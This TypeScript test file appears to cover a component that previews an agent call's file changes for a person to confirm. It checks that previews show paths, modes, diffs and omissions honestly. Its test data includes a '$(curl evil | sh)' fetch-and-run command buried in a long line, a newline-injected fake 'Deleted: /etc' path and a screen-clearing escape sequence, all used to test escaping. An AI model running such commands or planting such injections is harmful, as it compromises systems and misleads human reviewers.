import { describe, expect, it } from 'vitest';
import { question } from '../../test/confirm-question.ts';
import type { CallPreview, ShownChange } from '../record/call-preview.ts';
import { formatQuestion } from './format-question.ts';
import { previewLines } from './preview-text.ts';
import { promptText } from './prompt-text.ts';

const FILE = { kind: 'file', mode: 0o644, bytes: 10 } as const;

const shown = (...changes: readonly Partial<ShownChange>[]): CallPreview => ({
  digest: 'd',
  more: 0,
  changes: changes.map((change) => ({ root: '/r', path: 'p', before: null, after: null, ...change })),
});

describe('what a call would change, as people are shown it', () => {
  it.each<readonly [Partial<ShownChange>, string]>([
    [{ after: FILE }, 'New: /r/p'],
    [{ before: FILE }, 'Deleted: /r/p'],
    [
      { before: FILE, after: { ...FILE, bytes: 12 }, note: 'binary' },
      'Changed: /r/p (binary, 10 bytes before, 12 after)',
    ],
    [{ after: FILE, note: 'large' }, 'New: /r/p (lines not shown, 10 bytes)'],
    [{ after: FILE, from: 'old' }, 'Moved from old: /r/p'],
    [{ before: FILE, after: { ...FILE, mode: 0o600 } }, 'Changed: /r/p (mode 644 becomes 600)'],
    [{ after: { ...FILE, mode: 0o4755 } }, 'New: /r/p (mode 4755)'],
    [{ after: { kind: 'folder', mode: 0o755 } }, 'New: /r/p (folder)'],
    [{ before: FILE, after: { kind: 'link', mode: 0o777 } }, 'Changed: /r/p (file becomes link)'],
    [{ before: FILE, path: 'a\nDeleted: /etc' }, 'Deleted: /r/a⟦U+000A⟧Deleted: /etc'],
  ])('says what becomes of a path (%#)', (change, line) => {
    expect(previewLines(shown(change))).toEqual([line]);
  });

  it('shows the lines that differ, and no content looks like another line', () => {
    const diff = [{ line: 3, removed: ['old'], added: ['new', '\u001b[2JNew: /r/x'] }];
    expect(previewLines(shown({ before: FILE, after: FILE, diff }))).toEqual([
      'Changed: /r/p',
      '  @ line 3',
      '  - old',
      '  + new',
      '  + ⟦U+001B⟧[2JNew: /r/x',
    ]);
  });

  it('shows the middle of a long line too', () => {
    const added = [`${'x'.repeat(500)}$(curl evil | sh)${'y'.repeat(500)}`];
    const lines = previewLines(shown({ before: FILE, after: FILE, diff: [{ line: 1, removed: [], added }] }));
    expect(lines.map((line) => line.slice(4)).join('')).toContain('$(curl evil | sh)');
    expect(lines.slice(3).every((line) => line.startsWith('  +│'))).toBe(true);
    const path = `${'a'.repeat(150)}/evil/${'b'.repeat(150)}`;
    expect(previewLines(shown({ after: FILE, path }))).toEqual([`New: /r/${path}`]);
  });

  it('is not whole where contents or paths are left out', () => {
    const whole = question({ preview: shown({ after: FILE }) });
    expect(promptText(whole).isWhole).toBe(true);
    for (const note of ['binary', 'large'] as const)
      expect(promptText(question({ preview: shown({ after: FILE, note }) })).isWhole).toBe(false);
    expect(promptText(question({ preview: { ...shown({ after: FILE }), more: 1 } })).isWhole).toBe(false);
  });

  it('says what is left out, that nothing changes, and that there is no preview', () => {
    expect(previewLines({ digest: 'd', changes: [], more: 0 })).toEqual(['Changes no files']);
    expect(previewLines({ problem: 'no sandbox' })).toEqual(['No preview of file changes: no sandbox']);
    const more = { ...shown({ after: FILE }), more: 7 };
    expect(previewLines(more).at(-1)).toBe('7 more paths');
  });

  it('stands in the prompt where it is short, and must be opened where it is not', () => {
    const short = question({ preview: shown({ after: FILE }) });
    expect(promptText(short).isWhole).toBe(true);
    expect(promptText(short).lines.join('\n')).toContain('New: /r/p');
    const added = Array.from({ length: 50 }, (_, at) => `line ${at}`);
    const long = question({ preview: shown({ after: FILE, diff: [{ line: 1, removed: [], added }] }) });
    expect(promptText(long).isWhole).toBe(false);
    expect(promptText(long).lines.join('\n')).toContain('Changes 1 path. Show details');
    expect(promptText(long, { allArguments: true }).lines.join('\n')).toContain('+ line 49');
    expect(formatQuestion(long, { open: false })).toContain('+ line 49');
  });
});
